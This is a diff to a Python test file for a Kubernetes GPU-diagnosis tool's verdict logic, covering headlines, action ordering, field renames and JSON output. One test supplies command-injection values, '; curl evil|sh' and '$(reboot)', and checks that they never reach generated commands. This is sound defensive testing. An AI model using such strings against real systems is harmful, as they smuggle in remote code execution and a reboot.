@@ -43,16 +43,21 @@ def test_wedge_root_cause_is_the_known_bad_driver(stage):
         "probe.pod_not_started")
     if stage == "wedged-3m":
         assert "kubelet.admission_stalled" in v.chain
-    assert "NVIDIA driver 570.158.01" in v.headline and "device plugin" in v.headline
-    assert "2 pods stuck (1 GPU, 1 non-GPU)" in v.headline
+    # the labels say the driver and the layout; the node side did not confirm it: "Likely"
+    assert v.headline.startswith("Likely: known-bad NVIDIA driver 570.158.01 (MIG slices "
+                                 "mixed with full GPUs) hangs the device plugin in NVML")
+    assert "2 pods stuck (1 with GPUs, 1 without)" in v.headline
     assert dict(v.impact) == {"pods": 2, "gpu_pods": 1, "non_gpu_pods": 1}
-    stages = [a.stage for a in v.actions]
-    assert stages == sorted(stages, key=verdict.STAGES.index)
+    steps = [a.step for a in v.actions]
+    assert steps == sorted(steps, key=verdict.STEPS.index)
     assert v.actions[0].command == f"kubectl cordon {NODE}"
-    fix = [a for a in v.actions if a.stage == "fix"]
+    fix = [a for a in v.actions if a.step == "fix"]
     assert any("570.172.08" in a.text for a in fix)
     cmds = [a.command for a in v.actions if a.command]
-    assert "kubectl-gpu_doctor local" in cmds and "kubectl gpu-doctor agent install" in cmds
+    assert f"ssh {NODE} sudo kubectl-gpu_doctor local" in cmds
+    assert "kubectl gpu-doctor agent install" in cmds
+    assert [a.step for a in v.actions if a.command == "kubectl gpu-doctor agent install"] == \
+        ["prevent"]
     assert f"kubectl gpu-doctor node {NODE}" in cmds
     assert all(a.risk for a in v.actions)
 
@@ -74,7 +79,7 @@ def test_known_bad_driver_waiting_on_a_healthy_node_is_the_root_cause():
     v = decide(fs, NODE_TARGET)
     assert v.root_cause == "driver.known_bad" and v.severity == "warning"
     assert v.impact["pods"] == 0 and "stuck" not in v.headline
-    assert any("570.172.08" in a.text for a in v.actions if a.stage == "fix")
+    assert any("570.172.08" in a.text for a in v.actions if a.step == "fix")
 
 
 def test_cgroup_chain_roots_at_the_cpu_manager_and_names_device_specs():
@@ -96,7 +101,9 @@ def test_caused_by_evidence_links_findings_no_chain_knows():
     v = decide(fs, NODE_TARGET)
     assert v.root_cause == "gpu.health" and v.chain == ("gpu.health", "hami.lock_stale")
     assert v.severity == "critical"  # the chain's worst, not the root's
-    assert "kubectl gpu-doctor explain gpu.health" in [a.command for a in v.actions]
+    # the page is a reference beside the actions, never one of them
+    assert v.page == "kubectl gpu-doctor explain gpu.health"
+    assert not any("explain" in (a.command or "") for a in v.actions)
 
 
 def test_memory_chain_needs_every_link():
@@ -114,7 +121,7 @@ def test_memory_chain_needs_every_link():
 
 
 def test_hostile_names_and_evidence_never_reach_a_command():
-    fs = [f("driver.known_bad", driver_version="570.158.01; curl evil|sh",
+    fs = [f("driver.known_bad", driver_version="570.158.01; curl evil|sh", trigger_present=True,
             caused=["kubelet.blocked_in_device_plugin", "$(reboot)"]),
           f("kubelet.blocked_in_device_plugin", caused_by=["not.an.id"],
             pods_waiting=[{"pod": "ns/p", "gpu": {"nvidia.com/gpu": "1"}}, "junk", 7])]
@@ -125,7 +132,7 @@ def test_hostile_names_and_evidence_never_reach_a_command():
         assert v.root_cause == "driver.known_bad"
         assert "curl" not in v.headline and "reboot" not in json.dumps(v.to_dict())
         for a in v.actions:
-            assert a.command is None or a.command.startswith(("kubectl ", "kubectl-gpu_doctor"))
+            assert a.command is None or a.command.startswith(("kubectl ", "ssh "))
             assert a.command is None or not ({";", "|", "`", "$"} & set(a.command))
         assert not any(a.command == "kubectl cordon" for a in v.actions)
     assert decide(fs, {}).impact == {"pods": 1, "gpu_pods": 1, "non_gpu_pods": 0}
@@ -141,8 +148,11 @@ def test_verdict_is_frozen_and_serialises():
     v = decide(wedged("wedged-3m"), NODE_TARGET)
     doc = json.loads(json.dumps(v.to_dict()))
     assert doc["root_cause"] == "driver.known_bad" and doc["actions"][0]["stage"] == "stop"
+    assert doc["actions"][0]["step"] == "mitigate"  # `stage` keeps the names bots knew
+    # the fields bots had, plus `cleared` and `page` (added, nothing renamed)
     assert set(doc) == {"headline", "root_cause", "subject", "severity", "impact", "actions",
-                        "chain"}
+                        "chain", "cleared", "page"}
+    assert set(doc["actions"][0]) == {"stage", "step", "text", "command", "risk"}
     with pytest.raises(dataclasses.FrozenInstanceError):
         v.headline = "x"  # type: ignore[misc]
     with pytest.raises(ValueError):
